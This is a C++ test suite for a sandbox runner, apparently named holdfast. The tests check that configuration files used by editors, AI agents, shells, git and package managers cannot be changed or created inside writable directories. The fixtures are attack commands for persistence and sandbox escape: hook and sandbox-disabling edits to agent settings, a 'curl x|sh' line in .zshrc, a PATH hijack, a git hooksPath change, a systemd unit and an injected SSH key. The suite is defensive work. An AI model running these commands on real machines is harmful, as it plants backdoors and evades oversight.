// Protected names: the configuration that editors, agents, shells and
// package managers act on later, as the operator, stays read-only in every
// writable directory, cannot be created where the tools look first, and
// what a command creates elsewhere is reported when it ends.
#include "protection_support.hpp"

namespace holdfast::run::testing {
namespace {

using NamesTest = ProtectionTest;

TEST_P(NamesTest, ExistingNamesAnywhereInTheWorkspaceAreReadOnly) {
  set_policy(kWorkspaceWrite);
  make_file(workspace_ / ".claude" / "settings.json", "{}\n");
  make_file(workspace_ / ".qwen" / "settings.json", "{}\n");
  make_file(workspace_ / ".gitattributes", "* text=auto\n");
  make_file(workspace_ / ".envrc", "export A=1\n");
  make_file(workspace_ / "pkg" / ".npmrc", "registry=https://registry.npmjs.org/\n");
  make_file(workspace_ / "a" / "b" / ".vscode" / "tasks.json", "{}\n");
  make_file(workspace_ / "a" / "b" / "keep.txt", "x\n");
  own_tree(workspace_);
  const auto result =
      run({"/bin/sh", "-c",
           "echo '{\"hooks\": 1}' > .claude/settings.json; echo '{\"sandbox\": false}' > "
           ".qwen/settings.json; echo '* filter=evil' >> .gitattributes; echo evil >> .envrc; "
           "echo 'script-shell=/tmp/evil' >> pkg/.npmrc; echo evil > a/b/.vscode/tasks.json; "
           "echo new > .claude/new.json; rm -rf a/b/.vscode; mv .qwen .qwen.old; "
           "echo changed > a/b/keep.txt; exit 0"},
          {}, as_caller());
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_EQ(read_file(workspace_ / ".claude" / "settings.json"), "{}\n");
  EXPECT_FALSE(fs::exists(workspace_ / ".claude" / "new.json"));
  EXPECT_EQ(read_file(workspace_ / ".qwen" / "settings.json"), "{}\n");
  EXPECT_EQ(read_file(workspace_ / ".gitattributes"), "* text=auto\n");
  EXPECT_EQ(read_file(workspace_ / ".envrc"), "export A=1\n");
  EXPECT_EQ(read_file(workspace_ / "pkg" / ".npmrc"), "registry=https://registry.npmjs.org/\n");
  EXPECT_EQ(read_file(workspace_ / "a" / "b" / ".vscode" / "tasks.json"), "{}\n");
  // Control: the rest of the workspace is writable.
  EXPECT_EQ(read_file(workspace_ / "a" / "b" / "keep.txt"), "changed\n");
}

TEST_P(NamesTest, MissingNamesAtTheRootCannotBeCreatedAndLeaveNothingBehind) {
  set_policy(kWorkspaceWrite);
  own_tree(workspace_);
  const auto result = run({"/bin/sh", "-c",
                           "mkdir -p .claude && echo '{\"hooks\": 1}' > .claude/settings.json; "
                           "mkdir -p .qwen/x; echo '{}' > .mcp.json; echo evil > .npmrc; "
                           "mkdir .vscode/x; echo '[core]' > .gitmodules; "
                           "echo ok > control; exit 0"},
                          {}, as_caller());
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_EQ(read_file(workspace_ / "control"), "ok\n");
  // The empty mount points bubblewrap made for them are gone too.
  for (const char* name :
       {".claude", ".qwen", ".mcp.json", ".npmrc", ".vscode", ".gitmodules", ".git", ".holdfast"}) {
    EXPECT_FALSE(fs::exists(workspace_ / name)) << name;
  }
}

TEST_P(NamesTest, NamesCreatedBelowTheRootAreReportedOnStderrInTheRecordAndTheReport) {
  set_policy(kWorkspaceWrite);
  fs::create_directories(workspace_ / "sub");
  own_tree(workspace_);
  const fs::path report = outside_ / "report.json";
  const auto result = run({"/bin/sh", "-c",
                           "mkdir -p sub/.claude new/deep/.vscode && echo x > "
                           "sub/.claude/settings.json && echo x > new/deep/.vscode/tasks.json && "
                           "echo 'use flake' > .envrc; mkdir empty/.idea -p; exit 0"},
                          {"--report", report.string()}, as_caller());
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_TRUE(contains(result.err, "created protected names")) << result.err;
  for (const auto& path : {workspace_ / "sub" / ".claude", workspace_ / "new" / "deep" / ".vscode",
                           workspace_ / ".envrc"}) {
    EXPECT_TRUE(contains(result.err, path.string())) << path << "\n" << result.err;
  }
  // An empty directory holds nothing to run.
  EXPECT_FALSE(contains(result.err, ".idea")) << result.err;
  const auto names = nlohmann::json::parse(read_file(report)).at("after").at("names");
  EXPECT_EQ(names.size(), 3u) << names.dump();
  EXPECT_EQ(last_record().at("after").at("names"), names);
}

TEST_P(NamesTest, OperatorsLiftANameAWorkspaceCanOnlyAdd) {
  set_policy(kWorkspaceWrite, {{"tools", {{"protectedNames", {{"lift", {".vscode"}}}}}}});
  make_file(workspace_ / ".vscode" / "settings.json", "{}\n");
  make_file(workspace_ / ".claude" / "settings.json", "{}\n");
  make_file(workspace_ / "tools" / ".mytool.yml", "safe\n");
  set_workspace_settings(
      {{"tools", {{"protectedNames", {{"lift", {".claude"}}, {"add", {".mytool.yml"}}}}}}});
  own_tree(workspace_);
  const auto result = run({"/bin/sh", "-c",
                           "echo changed > .vscode/settings.json; echo changed > "
                           ".claude/settings.json; echo changed > tools/.mytool.yml; exit 0"},
                          {}, as_caller());
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_EQ(read_file(workspace_ / ".vscode" / "settings.json"), "changed\n");
  EXPECT_EQ(read_file(workspace_ / ".claude" / "settings.json"), "{}\n");
  EXPECT_EQ(read_file(workspace_ / "tools" / ".mytool.yml"), "safe\n");
  const auto protection = last_record().at("protection").at("names");
  EXPECT_EQ(protection.at("lifted"),
            nlohmann::json::parse(R"([{"name": ".vscode", "origin": "user"}])"));
  EXPECT_EQ(protection.at("added"),
            nlohmann::json::parse(R"([{"name": ".mytool.yml", "origin": "workspace"}])"));
  // --explain says what is protected, what was lifted, and by whom.
  const auto explained = holdfast({"run", "--explain", "--", "true"}, as_caller());
  EXPECT_TRUE(contains(explained.out, "lifted: .vscode  (by the user scope)")) << explained.out;
  EXPECT_TRUE(contains(explained.out, ".mytool.yml  (workspace scope")) << explained.out;
  EXPECT_TRUE(contains(explained.out, ".qwen  (built in")) << explained.out;
}

// The walk that finds existing names is bounded; a workspace larger than
// the bound is refused rather than left with writable names past it. Here
// the operator's limit is 3 directories and the .envrc is the 5th deep.
TEST_P(NamesTest, AWorkspaceLargerThanTheWalkIsRefusedNotHalfProtected) {
  make_file(workspace_ / "a" / "b" / "c" / "d" / ".envrc", "export A=1\n");
  own_tree(workspace_);
  const std::vector<std::string> attack = {"/bin/sh", "-c",
                                           "echo evil >> a/b/c/d/.envrc; echo ran > ran"};
  set_policy(kWorkspaceWrite, {{"tools", {{"protectedNames", {{"scanLimit", 3}}}}}});
  const auto refused = run(attack, {}, as_caller());
  EXPECT_EQ(refused.exit_code, 125) << refused.err;
  EXPECT_TRUE(contains(refused.err, "protection-scan-incomplete")) << refused.err;
  EXPECT_TRUE(contains(refused.err, "tools.protectedNames.scanLimit")) << refused.err;
  EXPECT_FALSE(fs::exists(workspace_ / "ran"));
  EXPECT_EQ(read_file(workspace_ / "a" / "b" / "c" / "d" / ".envrc"), "export A=1\n");
  // A workspace cannot raise it; the operator can, and then the name is
  // found and read-only.
  set_workspace_settings({{"tools", {{"protectedNames", {{"scanLimit", 1000}}}}}});
  own_tree(workspace_);
  EXPECT_EQ(run(attack, {}, as_caller()).exit_code, 125);
  set_policy(kWorkspaceWrite, {{"tools", {{"protectedNames", {{"scanLimit", 10}}}}}});
  const auto admitted = run(attack, {}, as_caller());
  EXPECT_EQ(admitted.exit_code, 0) << admitted.err;
  EXPECT_EQ(read_file(workspace_ / "ran"), "ran\n");
  EXPECT_EQ(read_file(workspace_ / "a" / "b" / "c" / "d" / ".envrc"), "export A=1\n");
}

// The bound refuses only for the project. A writable root wider than it
// (":home", ":root", a shared directory) is walked after the workspace with
// what the limit leaves, nearest levels first: the launch starts, the
// workspace is protected whole, the wide root as deep as the walk got, and
// --explain and the launch record say how deep that was. (It refused every
// launch under such a policy: a home has tens of thousands of directories.)
TEST_P(NamesTest, AWritableRootWiderThanTheProjectIsWalkedAsFarAsTheLimitAllows) {
  make_file(workspace_ / "a" / "b" / ".envrc", "export A=1\n");
  make_file(outside_ / ".vscode" / "tasks.json", "{}\n");
  for (const char* dir : {"p1", "p2", "p3", "p4", "p5", "p6"}) {
    fs::create_directories(outside_ / dir / "src");
  }
  own_tree(workspace_);
  own_tree(outside_);
  nlohmann::json policy = kWorkspaceWrite;
  policy["filesystem"][outside_.string()] = "write";
  // The workspace takes 3 directories (ws, a, b): the project fits, and
  // the wide root is left the rest: its own listing, and one more.
  set_policy(policy, {{"tools", {{"protectedNames", {{"scanLimit", 4}}}}}});
  const auto result = run(
      {"/bin/sh", "-c",
       "echo evil >> a/b/.envrc; echo evil > " + (outside_ / ".vscode" / "tasks.json").string() +
           "; echo ok > " + (outside_ / "p1" / "control").string() + "; exit 0"},
      {}, as_caller());
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_EQ(read_file(workspace_ / "a" / "b" / ".envrc"), "export A=1\n");
  EXPECT_EQ(read_file(outside_ / ".vscode" / "tasks.json"), "{}\n");
  EXPECT_EQ(read_file(outside_ / "p1" / "control"), "ok\n");  // control: the root is writable
  const auto names = last_record().at("protection").at("names");
  EXPECT_TRUE(names.at("complete").get<bool>());
  ASSERT_EQ(names.at("partial_wide_roots").size(), 1u) << names.dump();
  EXPECT_EQ(names.at("partial_wide_roots")[0].at("root"), fs::canonical(outside_).string());
  EXPECT_EQ(names.at("partial_wide_roots")[0].at("levels_seen"), 1);
  const auto explained = holdfast({"run", "--explain", "--", "true"}, as_caller());
  EXPECT_TRUE(contains(
      explained.out, fs::canonical(outside_).string() + " is writable and wider than the project"))
      << explained.out;
}

TEST_P(NamesTest, UnderAWritableHomeShellAndGitStartUpFilesStayAsTheyWere) {
  set_policy({{"filesystem", {{":root", "read"}, {":workspace", "write"}, {":home", "write"}}},
              {"network", "closed"}});
  make_file(home_ / ".bashrc", "# mine\n");
  make_file(home_ / ".gitconfig", "[user]\n\tname = me\n");
  fs::create_directories(home_ / ".config");
  own_tree(home_);
  own_tree(workspace_);
  const auto result = run(
      {"/bin/sh", "-c",
       "echo 'export PATH=/tmp/evil:$PATH' >> ~/.bashrc; echo 'curl x|sh' > ~/.zshrc; "
       "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> ~/.gitconfig; "
       "mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/x.service; "
       "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys; "
       "echo ok > ~/control; exit 0"},
      {}, as_caller());
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_EQ(read_file(home_ / ".bashrc"), "# mine\n");
  EXPECT_EQ(read_file(home_ / ".gitconfig"), "[user]\n\tname = me\n");
  EXPECT_FALSE(fs::exists(home_ / ".zshrc"));
  EXPECT_FALSE(fs::exists(home_ / ".config" / "systemd"));
  EXPECT_FALSE(fs::exists(home_ / ".ssh"));
  EXPECT_EQ(read_file(home_ / "control"), "ok\n");
}

INSTANTIATE_TEST_SUITE_P(Callers, NamesTest, ::testing::Values(Caller::root, Caller::user),
                         caller_name);

}  // namespace
}  // namespace holdfast::run::testing
